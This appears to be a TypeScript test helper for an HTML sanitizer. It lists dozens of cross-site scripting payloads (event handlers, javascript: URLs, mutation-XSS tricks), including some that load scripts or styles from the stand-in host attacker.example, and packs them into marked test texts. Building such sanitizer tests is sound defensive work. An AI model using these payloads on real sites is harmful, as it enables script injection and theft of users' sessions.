import { existsSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { type DefaultTreeAdapterTypes, parseFragment } from 'parse5'

const data = join(import.meta.dirname, '../../../shared/data/unsafe-html')

/** Ways to have a browser run something that is shown, in our own words; those of others are added where they are at hand. */
const OURS = [
  '<script>alert(1)</script>',
  '<SCRIPT/x>alert(1)</SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script src="//attacker.example/a.js"></script>',
  '<script type="module">import("https://attacker.example/a.js")</script>',
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror="alert`1`">',
  '<img src="x` onerror=alert(1)//">',
  '<image href=x onerror=alert(1)>',
  '<img srcset="x 1x, y 2x" sizes=1 onerror=alert(1) onload=alert(1)>',
  '<picture><source srcset="https://attacker.example/p.png"><img src="https://attacker.example/q.png" onerror=alert(1)></picture>',
  '<svg onload=alert(1)><circle r=9 onclick=alert(1)>',
  '<svg><script href="data:text/javascript,alert(1)" /></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x=9 y=9>go</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>parent.alert(1)</script>"></iframe></foreignObject></svg>',
  '<svg><set attributeName=href to="javascript:alert(1)"></svg>',
  '<math href="javascript:alert(1)"><mtext>m</mtext></math>',
  '<math><mi xlink:href="javascript:alert(1)">m</mi></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<object data="https://attacker.example/o.swf"><param name=movie value="javascript:alert(1)"></object>',
  '<a href="javascript:alert(1)">link one</a>',
  '<a href=" &#1;java&#x09;scr&#10;ipt&colon;alert(1)">link two</a>',
  '<a href="JaVaScRiPt&#58;alert(1)">link three</a>',
  '<a href="data:text/html,<script>alert(1)</script>">link four</a>',
  '<a href="vbscript:msgbox(1)">link five</a>',
  '<a href="https://kept.example/" onclick="alert(1)" onfocus=alert(1) autofocus tabindex=1>link six</a>',
  '<a href="//attacker.example\\@kept.example/" ping="https://attacker.example/ping">link seven</a>',
  '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">send</button><input autofocus onfocus=alert(1)></form>',
  '<details open ontoggle=alert(1)><summary>more</summary>inside</details>',
  '<video src=x onerror=alert(1)><source onerror=alert(1)></video><audio src=x onerror=alert(1)></audio>',
  '<marquee onstart=alert(1)>moving</marquee>',
  '<body onload=alert(1) onpageshow=alert(1)>',
  '<div style="background:url(https://attacker.example/b.png);width:expression(alert(1))">styled</div>',
  '<style>@import "https://attacker.example/s.css"; * { background: url(https://attacker.example/t.png) }</style>',
  '<link rel=stylesheet href="https://attacker.example/s.css"><link rel=prefetch href="https://attacker.example/p">',
  '<meta http-equiv=refresh content="0;url=https://attacker.example/">',
  '<base href="https://attacker.example/">',
  '<table background="https://attacker.example/b.png"><tr><td background="javascript:alert(1)">cell</td></tr></table>',
  '<p id=body name=document onmouseover=alert(1) onpointerenter=alert(1)>named</p>',
  '<form id=document><input name=cookie><img name=body></form>',
  '<x-y contenteditable onbeforeinput=alert(1) oncopy=alert(1) draggable=true ondragstart=alert(1)>custom</x-y>',
  '<template><script>alert(1)</script></template><slot onslotchange=alert(1)></slot>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">quiet</p></noscript>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<select><template><style><!--</style><a rel="--></style></template></select><img id=x src onerror=alert(1)>">x</a>',
  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  "<p title='\"><img src=x onerror=alert(1)>'>attributed</p>",
  '&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;img src=x onerror=alert(1)&amp;gt;',
  '"><script>alert(1)</script><"',
  "';alert(1)//\\';alert(1)//\";alert(1)//--></script><script>alert(1)</script>",
  '{{constructor.constructor("alert(1)")()}} $' + '{alert(1)} <%= alert(1) %>',
  '\u2028<img/src=x/onerror=alert(1)>\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  ']]><script>alert(1)</script><![CDATA[ <?xml-stylesheet href="javascript:alert(1)"?>',
  '<!--><img src=x onerror=alert(1)>--> <!-- --!><img src=x onerror=alert(1)> -->',
  '<iframe src="https://attacker.example/frame"></iframe><embed src="https://attacker.example/e">',
  '<textarea></textarea><xmp><img src=x onerror=alert(1)></xmp><listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
]

/** All ways that are at hand. */
export function unsafePayloads(): string[] {
  return [
    ...OURS,
    ...readList<{ payload: string }>('dompurify-dev.json').map(({ payload }) => payload),
    ...readList<string>('owasp/vectors-dev.json'),
  ]
}

function readList<Entry>(name: string): Entry[] {
  const path = join(data, name)
  return existsSync(path) ? (JSON.parse(readFileSync(path, 'utf8')) as Entry[]) : []
}

export interface UnsafeText {
  /** Markup that has to stay, and a number of payloads, each with a sign behind it. */
  html: string
  /** Signs that a browser without scripts shows. */
  signs: string[]
}

/** What is harmless in each text. */
const HARMLESS =
  '<p>Plain words, <b>bold words</b> and <a href="https://kept.example/page">a kept link</a>.</p><ul><li>first item</li><li>second item</li></ul>'

/**
 * The payloads in as few texts as can be: each text has at most one of those that take in whatever comes behind them, as its last.
 */
export function unsafeTexts(payloads: readonly string[], many = 20): UnsafeText[] {
  const open = payloads.filter((payload) => takesIn(payload))
  const closed = payloads.filter((payload) => !takesIn(payload))
  const size = Math.ceil(payloads.length / many)
  const count = Math.max(open.length, size)
  const per = Math.ceil(closed.length / count)
  return Array.from({ length: count }, (_, at) => {
    const inside = [...closed.slice(at * per, (at + 1) * per), ...open.slice(at, at + 1)]
    const signed = inside.map((payload, index) => `<div>${payload}</div><p>sign${at}x${index}end</p>`)
    const html = HARMLESS + signed.join('\n')
    const seen = textIn(parseFragment(html, { scriptingEnabled: false }).childNodes)
    return { html, signs: [...seen.matchAll(/sign\d+x\d+end/g)].map(([sign]) => sign) }
  })
}

type Markup = DefaultTreeAdapterTypes.ChildNode

function takesIn(payload: string): boolean {
  const nodes = parseFragment(`<div>${payload}</div><p>behind</p>`, { scriptingEnabled: false }).childNodes
  const last = nodes.at(-1)
  return !(last && 'tagName' in last && last.tagName === 'p' && textIn(last.childNodes) === 'behind')
}

const UNSEEN =
  /^(script|style|template|noscript|iframe|noembed|noframes|title|desc|metadata|annotation|annotation-xml)$/

function textIn(nodes: Markup[]): string {
  return nodes
    .map((node) => {
      if (node.nodeName === '#text' && 'value' in node) return node.value
      return 'tagName' in node && !UNSEEN.test(node.tagName) ? textIn(node.childNodes) : ''
    })
    .join('')
}

/** The same as well-formed XML, as far as that can say it: for formats that hold markup as markup. */
export function asXml(html: string): string {
  return toXml(parseFragment(html, { scriptingEnabled: false }).childNodes)
}

function toXml(nodes: Markup[]): string {
  return nodes
    .map((node) => {
      if (node.nodeName === '#text' && 'value' in node) return escapeXml(node.value)
      if (!('tagName' in node)) return ''
      const inside = toXml(
        'content' in node ? (node as DefaultTreeAdapterTypes.Template).content.childNodes : node.childNodes,
      )
      if (!/^[a-z][\w-]*$/i.test(node.tagName)) return inside
      const attributes = new Map(
        node.attrs.filter(({ name }) => /^[a-z][\w-]*$/i.test(name)).map(({ name, value }) => [name, value]),
      )
      const written = [...attributes].map(([name, value]) => ` ${name}="${escapeXml(value)}"`).join('')
      return `<${node.tagName}${written}>${inside}</${node.tagName}>`
    })
    .join('')
}

export function escapeXml(text: string): string {
  return text
    .replace(/[^\t\n\r\u0020-\uD7FF\uE000-\uFFFD]/g, '')
    .replace(/[&<>"]/g, (sign) => ({ '&': '&amp;', '<': '&lt;', '>': '&gt;', '"': '&quot;' })[sign] ?? sign)
}
